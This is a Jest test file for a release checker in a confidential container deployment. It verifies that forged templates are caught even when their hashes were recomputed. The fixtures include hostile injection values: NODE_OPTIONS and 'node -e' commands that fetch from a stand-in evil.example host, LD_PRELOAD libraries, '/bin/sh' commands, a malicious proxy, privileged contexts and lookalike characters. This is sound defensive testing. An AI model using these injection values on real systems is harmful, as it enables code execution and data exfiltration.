import { beforeAll, describe, expect, it } from '@jest/globals'
import { sha256Hex } from '../../../src/base/digest.js'
import type { UserError } from '../../../src/base/user-error.js'
import {
  checkRelease,
  type CompleteRelease,
  encodeRelease,
  parseRelease,
  rebuildRelease,
  regeneratePolicy,
  valuesToRead
} from '../../../src/release/index.js'
import {
  alteredRelease,
  type Anything,
  type Deployment,
  differing,
  forgedRelease,
  releasedDeployment,
  router,
  sidecar
} from './support.js'

let made: Deployment
let release: CompleteRelease
beforeAll(async () => {
  made = await releasedDeployment()
  release = await made.release()
})

const rebuild = (changed: CompleteRelease, from: Pick<Deployment, 'checkout' | 'openImage'> = made) =>
  rebuildRelease(changed, { packageFolder: from.checkout, openImage: from.openImage })
const regenerate = (changed: CompleteRelease) => regeneratePolicy(changed, { openImage: made.openImage })
const forged = (change: (release: Anything) => void) => forgedRelease(made, change)
const altered = (change: (release: Anything) => void) => alteredRelease(release, change)

const variable = (container: Anything, name: string) =>
  container.environmentVariables.find((known: Anything) => known.name === name)
const addVariable = (container: Anything, name: string, value: string) =>
  container.environmentVariables.push({ name, value })

const containerPath = (index: number) => `template.resources[0].properties.containers[${index}].properties`

/** What it is, how it is done, the path that the first difference begins with, and what the differences show. */
type Forgery = [string, (release: Anything) => void, string, string]

describe('a forged release that agrees with itself, built again', () => {
  it.each<[string, (release: Anything) => void, readonly string[]]>([
    [
      'another command for the sidecar',
      (r) => (sidecar(r).command = ['/bin/sh']),
      ['template.resources[0].properties.containers[1].properties.command[0]']
    ],
    [
      'a command for the router',
      (r) => (router(r).command = ['/bin/sh']),
      ['template.resources[0].properties.containers[0].properties.command']
    ],
    [
      'a variable less',
      (r) => router(r).environmentVariables.shift(),
      ['template.resources[0].properties.containers[0].properties.environmentVariables[0].name']
    ],
    [
      'the sealed secrets for the sidecar',
      (r) =>
        sidecar(r).environmentVariables.push({ name: 'CONFROUTER_SECRETS', value: "[parameters('sealedSecrets')]" }),
      ['template.resources[0].properties.containers[1].properties.environmentVariables[1]']
    ],
    [
      'a variable twice',
      (r) => router(r).environmentVariables.push(router(r).environmentVariables[0]),
      ['environmentVariables[']
    ],
    [
      'a third container',
      (r) =>
        r.template.resources[0].properties.containers.push({
          ...r.template.resources[0].properties.containers[1],
          name: 'third'
        }),
      ['template.resources[0].properties.containers[2]']
    ],
    [
      'no sidecar',
      (r) => r.template.resources[0].properties.containers.pop() && r.layers.pop(),
      ['template.resources[0].properties.containers[1]']
    ]
  ])('finds %s, under a policy that was made for it', async (_name, change, expected) => {
    const changed = await forged(change)
    expect(checkRelease(changed)).toEqual([])
    expect(differing(await regenerate(changed))).toEqual([])
    const found = differing(await rebuild(changed))
    for (const path of expected) expect(found.join('\n')).toContain(path)
    expect(found.every((what) => what.startsWith('template.'))).toBe(true)
  })

  it.each([
    ['AKV_ENDPOINT', 'vault.elsewhere.example'],
    ['MAA_ENDPOINT', 'attest.elsewhere.example'],
    ['CONFROUTER_PROVIDERS', `{"other":{"baseUrl":"https://elsewhere.example/${'x'.repeat(500)}"}}`],
    ['CONFROUTER_SIMULATED', 'true'],
    ['ACCESS_MODE', 'open']
  ])('gives %s to a person to read, in full, since the source does not say what is right', async (name, value) => {
    const changed = await forged((r) => (variable(router(r), name).value = value))
    const comparisons = await rebuild(changed)
    expect(differing(comparisons)).toEqual([])
    expect(comparisons).toContainEqual({
      what: `read: template router ${name}`,
      expected: value,
      actual: value,
      same: true
    })
  })

  it.each([
    ['other numbers', 'router: { workers: 4, retries: 0, limits: { concurrentCalls: 50, idleSeconds: 60 } }'],
    [
      'all that can be configured',
      `access: { mode: token, tokensSha256: [${'ab'.repeat(32)}] }
providers: { mine: { baseUrl: "https://api.example/v1" } }
sidecar: { port: 9001 }
containerGroup: { port: 9000 }
router:
  { workers: 2, retries: 2, retrySeconds: 1, replaySeconds: 30, keyRefreshSeconds: 60, metrics: "off",
    tls: { port: 9443, only: true }, fallbacks: { "mine:a": ["mine:b"], "mine:A": ["mine:c"] },
    limits: { bodyBytes: 4096, uploadBytes: 8192, bufferedBytes: 8192, concurrentCalls: 70, callsPerCaller: 9,
      callsPerMinute: 5, evidencePerMinute: 3, firstByteSeconds: 9, idleSeconds: 8, requestIdleSeconds: 7,
      shutdownSeconds: 0 } }`
    ]
  ])('finds nothing in an honest release with %s', async (_name, yaml) => {
    const { release: own, checkout, openImage } = await releasedDeployment({ checkout: made.checkout, yaml })
    expect(differing(await rebuild(await own(), { checkout, openImage }))).toEqual([])
  })

  it.each<Forgery>([
    [
      'code for Node.js in a variable',
      (r) => addVariable(router(r), 'NODE_OPTIONS', '--import=data:text/javascript,fetch("https://evil.example")'),
      `${containerPath(0)}.environmentVariables[N]`,
      'NODE_OPTIONS'
    ],
    [
      'a library for the router',
      (r) => addVariable(router(r), 'LD_PRELOAD', '/x.so'),
      `${containerPath(0)}.environmentVariables[N]`,
      'LD_PRELOAD'
    ],
    [
      'a proxy for its calls',
      (r) => addVariable(router(r), 'npm_config_https_proxy', 'http://evil.example'),
      `${containerPath(0)}.environmentVariables[N]`,
      'npm_config_https_proxy'
    ],
    [
      'a variable that the router knows and no configuration sets',
      (r) => addVariable(router(r), 'UVM_SECURITY_CONTEXT_DIR', '/tmp'),
      `${containerPath(0)}.environmentVariables[N]`,
      'UVM_SECURITY_CONTEXT_DIR'
    ],
    [
      'a library for the sidecar',
      (r) => addVariable(sidecar(r), 'LD_PRELOAD', '/x.so'),
      `${containerPath(1)}.environmentVariables[1]`,
      'LD_PRELOAD'
    ],
    [
      'a variable of the router for the sidecar',
      (r) => addVariable(sidecar(r), 'CONFROUTER_WORKERS', '2'),
      `${containerPath(1)}.environmentVariables[1]`,
      'CONFROUTER_WORKERS'
    ],
    [
      'another port of the sidecar in the same letters',
      (r) => (variable(sidecar(r), 'Port').value = '08081'),
      `${containerPath(0)}.environmentVariables[2].value`,
      '08081'
    ],
    ...['http://evil.example', 'http://127.0.0.1:9999', 'http://127.0.0.1.evil.example:8081', ''].map(
      (url): Forgery => [
        `a sidecar at "${url}"`,
        (r) => (variable(router(r), 'SKR_URL').value = url),
        `${containerPath(0)}.environmentVariables[2].value`,
        url
      ]
    ),
    ...['many', '0', '65', '04'].map((count): Forgery => [
      `${count} processes, which no configuration gives`,
      (r) => addVariable(router(r), 'CONFROUTER_WORKERS', count),
      `${containerPath(0)}.environmentVariables[N]`,
      'CONFROUTER_WORKERS'
    ]),
    ...['{}', '[[]', '{"a": ["b"]}', '{"a":"b"}', 'x'].map((fallbacks): Forgery => [
      `the fallbacks ${fallbacks}, which no configuration gives`,
      (r) => addVariable(router(r), 'CONFROUTER_FALLBACKS', fallbacks),
      `${containerPath(0)}.environmentVariables[N]`,
      ''
    ]),
    [
      'a program for the router in place of its own',
      (r) => (router(r).command = ['node', '-e', 'fetch("https://evil.example")']),
      `${containerPath(0)}.command`,
      'evil.example'
    ],
    [
      'a program for the sidecar in place of its own',
      (r) => (sidecar(r).command = ['node', '-e', 'fetch("https://evil.example")']),
      `${containerPath(1)}.command[0]`,
      'evil.example'
    ],
    [
      'a third container',
      (r) => {
        const { containers } = r.template.resources[0].properties
        containers.push({ ...containers[1], name: 'third' })
      },
      'template.resources[0].properties.containers[2]',
      'third'
    ]
  ])('names %s as a difference, though every hash was made again', async (_name, change, path, value) => {
    const changed = parseRelease(encodeRelease(await forged(change))) as CompleteRelease
    expect(checkRelease(changed)).toEqual([])
    expect(differing(await regenerate(changed))).toEqual([])
    const added = router(changed).environmentVariables.length - 1
    const different = (await rebuild(changed)).filter(({ same }) => !same)
    expect(different[0]?.what.startsWith(path.replace('[N]', `[${added}]`))).toBe(true)
    expect(different.map(({ expected }) => expected).join(' ')).toContain(value)
  })

  it('names a variable in front of the others, where Node.js would see it just as well', async () => {
    const changed = await forged((r) =>
      router(r).environmentVariables.unshift({ name: 'NODE_OPTIONS', value: '--require=/x.js' })
    )
    expect((await rebuild(changed)).find(({ same }) => !same)).toMatchObject({
      what: `${containerPath(0)}.environmentVariables[0].name`,
      expected: '"NODE_OPTIONS"',
      actual: '"HOST"'
    })
  })

  it.each<[string, (release: Anything) => void, string]>([
    ['a mount', (r) => (sidecar(r).volumeMounts = [{ name: 'x', mountPath: '/app' }]), 'volumeMounts'],
    ['a volume', (r) => (r.template.resources[0].properties.volumes = [{ name: 'x', emptyDir: {} }]), 'volumes'],
    ['a probe', (r) => (router(r).livenessProbe = { exec: { command: ['/bin/sh'] } }), 'livenessProbe'],
    ['a security context', (r) => (router(r).securityContext = { privileged: true }), 'securityContext'],
    [
      'a container that runs first',
      (r) => (r.template.resources[0].properties.initContainers = [{ name: 'x' }]),
      'initContainers'
    ]
  ])('is not asked about a template with %s, which no release may have', (_name, change, field) => {
    const text = encodeRelease(altered(change))
    expect(() => parseRelease(text)).toThrow(expect.objectContaining({ code: 'release-file.invalid' }))
    try {
      parseRelease(text)
    } catch (error) {
      expect((error as UserError).why).toContain(`${field} is not a known field`)
    }
  })

  it.each<[string, (text: string) => string]>([
    [
      'a process that may be started later',
      (text) => text.replace('"exec_processes":[]', '"exec_processes":[{"command":["/bin/sh"],"signals":[]}]')
    ],
    [
      'a mount',
      (text) =>
        text.replace(
          '"mounts":[',
          '"mounts":[{"destination":"/app","options":["rbind","rshared","rw"],"source":"sandbox:///tmp/atlas/emptydir/.+","type":"bind"},'
        )
    ]
  ])('finds %s in a policy text whose template has none', async (_name, change) => {
    const changed = altered((r) => {
      r.policy.text = change(r.policy.text)
      r.hostData = sha256Hex(r.policy.text)
    })
    expect(changed.policy.text).not.toBe(release.policy.text)
    expect(differing(await rebuild(changed))).toEqual(['policy.text', 'hostData'])
  })

  it('has whatever the source does not decide to be read, and no more', () => {
    expect(valuesToRead(release).map(({ name }) => name)).toEqual([
      'template router HOST',
      'template router MAA_ENDPOINT',
      'template router AKV_ENDPOINT',
      'template router KID',
      'template router CONFROUTER_PROVIDERS',
      'template router ACCESS_MODE',
      'template router ACCESS_TOKENS',
      'template router RATE_LIMIT_PER_MINUTE',
      'template router ENCRYPTION',
      'template router CONFROUTER_SIMULATED',
      'template router CONFROUTER_DEPLOYMENT',
      'template router CONFROUTER_SECRETS_SIGNER',
      'template skr image'
    ])
    expect(valuesToRead(release).at(-1)?.value).toBe(release.layers[1]?.image)
  })

  it('shows letters that look like others by their numbers', () => {
    const changed = altered((r) => (variable(router(r), 'AKV_ENDPOINT').value = 'v\u0430ult.example\u001b[2K'))
    expect(valuesToRead(changed)).toContainEqual({
      name: 'template router AKV_ENDPOINT',
      value: 'v\\u0430ult.example\\u001b[2K'
    })
  })
})
